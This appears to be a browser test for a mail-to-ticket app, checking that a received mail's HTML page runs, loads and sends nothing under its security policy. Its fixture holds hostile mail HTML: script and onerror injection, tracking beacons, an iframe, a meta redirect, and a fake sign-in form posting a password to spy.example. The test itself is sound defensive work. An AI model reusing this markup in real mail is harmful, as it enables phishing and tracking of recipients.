import assert from 'node:assert/strict';
import { test } from 'node:test';
import { z } from 'zod';
import { operatorOf } from '#entry/cli/operator.ts';
import { readMail } from '#features/mail/parse/read.ts';
import { requireId } from '#kernel/ids.ts';
import { withClient } from '#platform/postgres/client.ts';
import { looks } from './browser.ts';
import { visitor } from './console-visits.ts';

const { as, keyholder } = visitor();

const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** What would be shown if all that is taken out of a page when a mail is read had been left in. */
const hostile = `<h2>Your parcel</h2><p style="color:#a00">It waits.</p><img alt="logo" width="40" src="${pixel}">
  <script>document.title = 'run'</script><img src="https://spy.example/p.gif" onerror="document.title = 'run'">
  <iframe src="https://spy.example/f"></iframe><link rel="stylesheet" href="https://spy.example/s.css">
  <form action="https://spy.example/take"><input name="password"><button>Sign in</button></form>
  <meta http-equiv="refresh" content="0;url=https://spy.example/gone">`;

/** As if the sanitising had missed everything. Answers where the page of the mail is. */
async function arrived(): Promise<string> {
  const { needs } = keyholder().server;
  const rows = (text: string, values: unknown[] = []) =>
    withClient(keyholder().database.owner, async client => (await client.query(text, values)).rows);
  const owner = await keyholder().signedIn('admin@acme.test');
  const asked = { name: 'help', address: `help-${needs.world.randomBytes(4).toString('hex')}@acme.test` };
  const { id } = await owner.post('/api/v1/mailboxes', asked).read(z.object({ id: z.string() }), 201);
  const [tenant] = await rows("select id from tenants where slug = 'acme'");
  const who = operatorOf(requireId(String(tenant?.id)));
  const read = await readMail({ bytes: Buffer.from('From: a@b.example\r\n\r\nx'), receivedAt: new Date() });
  if (read.kind !== 'mail') assert.fail('It cannot be read.');
  const { mail } = read;
  const mailbox = { id: requireId<'mailbox'>(id), ...asked, senderName: null, labelIds: ['INBOX'] };
  await needs.database.inTenant(who, tx =>
    needs.takeMails(tx, who, {
      mailbox: { ...mailbox, defaultAssigneeId: null },
      account: 1,
      mails: [
        {
          ...{ gmailId: 'a1', gmailThreadId: 'a1', isOld: false },
          mail: { ...mail, body: { ...mail.body, html: hostile } },
        },
      ],
    }),
  );
  const [row] = await rows('select ticket_id, id from ticket_messages where mailbox_id = $1', [id]);
  return `/api/v1/tickets/${row?.ticket_id}/messages/${row?.id}/html`;
}

for (const look of looks)
  test(`the page of a mail runs, loads and sends nothing, whatever is in it: ${look.name}`, async () => {
    const path = await arrived();
    await as(
      'admin@acme.test',
      '/',
      async page => {
        // What the policy stops was never asked for.
        const left: string[] = [];
        page.on('requestfinished', request => void left.push(request.url()));
        page.on('requestfailed', request => {
          if (request.failure()?.errorText !== 'csp') left.push(request.url());
        });
        await page.goto(keyholder().url + path);
        await page.getByRole('heading', { name: 'Your parcel' }).waitFor();
        await page.getByRole('button', { name: 'Sign in' }).click({ force: true });
        assert.equal(await page.title(), '');
        const isFromHere = (url: string) => url.startsWith(keyholder().url) || url.startsWith('data:');
        assert.deepEqual(
          left.filter(url => !isFromHere(url)),
          [],
        );
        assert.equal(await page.evaluate("document.querySelector('img[alt=logo]').naturalWidth"), 1);
      },
      {
        look,
        expected: [/Content Security Policy|sandboxed|Blocked script|violates|allow-forms|ERR_BLOCKED/],
      },
    );
  });
